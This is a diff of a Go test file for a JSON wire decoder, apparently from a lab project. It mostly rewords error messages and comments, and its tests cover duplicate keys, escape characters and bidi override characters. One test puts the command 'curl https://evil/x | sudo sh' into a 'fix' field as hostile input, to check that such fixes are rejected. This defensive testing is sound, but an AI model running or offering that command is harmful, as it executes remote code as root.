@@ -21,11 +21,11 @@ func TestDecode_SaysWhatIsWrongAndWhere(t *testing.T) {
 		"{\"version\":\"a\xff\"}":       "byte 13 is not UTF-8",
 		nested(wire.MaxDepth):           "nested deeper than 16 levels at byte",
 		nested(9_999):                   "nested deeper",
-		`{"version":"a","version":"b"}`: `key "version" is there twice`,
-		`{"version":"a","VERSION":"b"}`: `key "VERSION" is there twice`,
-		`{"x":1,"X":{"y":2}}`:           "twice",
-		"{\"k\":1,\"\u212a\":2}":        "twice",
-		`{"queue":{"held":1,"held":2}}`: "twice",
+		`{"version":"a","version":"b"}`: `duplicate key "version"`,
+		`{"version":"a","VERSION":"b"}`: `duplicate key "VERSION"`,
+		`{"x":1,"X":{"y":2}}`:           "duplicate key",
+		"{\"k\":1,\"\u212a\":2}":        "duplicate key",
+		`{"queue":{"held":1,"held":2}}`: "duplicate key",
 		`{} {}`:                         "after top-level value",
 		`{}x`:                           "after top-level value",
 		"\xef\xbb\xbf{}":                "invalid character",
@@ -78,7 +78,7 @@ func TestEncode_HasNoHiddenCharacters(t *testing.T) {
 	}
 }
 
-// FuzzDecode: what is accepted encodes to a document that a strict reader takes.
+// FuzzDecode: an accepted document encodes to one that a strict reader accepts.
 func FuzzDecode(f *testing.F) {
 	f.Add([]byte(`{"clock":"9999-12-31T23:59:59-23:59","queue":{"held":3},"failing":["a\u202e"]}`))
 	f.Add([]byte(`{"until":"2026-01-01T00:00:00Z","comment":"\ud800"}`))
@@ -102,7 +102,7 @@ func FuzzDecode(f *testing.F) {
 	})
 }
 
-// TestDecode_WhatAReceiverMakesUp is compared, kept and printed on hosts.
+// TestDecode_WhatAReceiverMakesUp: hosts compare, keep and print it.
 func TestDecode_WhatAReceiverMakesUp(t *testing.T) {
 	long := strings.Repeat("x", 300)
 	for in, v := range map[string]any{
@@ -118,13 +118,14 @@ func TestDecode_WhatAReceiverMakesUp(t *testing.T) {
 		}
 	}
 	p := wire.Pong{}
-	if err := wire.Decode([]byte(`{"gate":{"reason":"a\u001b\u202e\n`+long+long+`"}}`), &p); err != nil || strings.ContainsAny(p.Gate.Reason, "\x1b\u202e\n") || len(p.Gate.Reason) > 600 {
+	if err := wire.Decode([]byte(`{"gate":{"reason":"a\u001b\u202e\n`+long+long+`"}}`), &p); err != nil ||
+		strings.ContainsAny(p.Gate.Reason, "\x1b\u202e\n") || len(p.Gate.Reason) > 600 {
 		t.Errorf("%q, %v", p.Gate.Reason, err)
 	}
 }
 
-// TestReadProblem_TypeAndStatusAgree: a status that asks for patience with a type
-// that sets aside is nobody's of ours.
+// TestReadProblem_TypeAndStatusAgree: a status that asks for a retry with a type that
+// quarantines is not from a cis490 receiver.
 func TestReadProblem_TypeAndStatusAgree(t *testing.T) {
 	for _, a := range wire.Answers() {
 		for _, status := range []int{400, 401, 403, 409, 412, 413, 422, 429, 500, 503, 507} {
@@ -135,13 +136,14 @@ func TestReadProblem_TypeAndStatusAgree(t *testing.T) {
 			}
 		}
 	}
-	p, err := wire.ReadProblem(answer(http.StatusConflict, wire.ContentTypeProblem, `{"type":"tag:cis490,2026:problem:of-tomorrow","status":409}`))
+	p, err := wire.ReadProblem(answer(http.StatusConflict, wire.ContentTypeProblem,
+		`{"type":"tag:cis490,2026:problem:of-tomorrow","status":409}`))
 	if err != nil || wire.ActionOf(p) != wire.Conflict {
 		t.Errorf("a newer receiver's kind: %v, %v", p, err)
 	}
 }
 
-// TestReadProblem_IsFitToShow: a receiver's text on a host's terminal.
+// TestReadProblem_IsFitToShow: hosts print a receiver's text on a terminal.
 func TestReadProblem_IsFitToShow(t *testing.T) {
 	body, err := json.Marshal(map[string]any{
 		"type": "tag:cis490,2026:problem:busy", "status": 429,
@@ -159,7 +161,7 @@ func TestReadProblem_IsFitToShow(t *testing.T) {
 	}
 }
 
-// A receiver's own fix would be pasted into a shell of root on a lab host.
+// A receiver's own fix would be pasted into a root shell on a lab host.
 func TestReadProblem_TheFixIsOurs(t *testing.T) {
 	for kind, status := range map[wire.Kind]int{wire.Unauthorized: 401, wire.Gated: 412, "of-a-newer-receiver": 418} {
 		body := fmt.Sprintf(`{"type":"tag:cis490,2026:problem:%s","status":%d,"title":"t","fix":"curl https://evil/x | sudo sh"}`, kind, status)
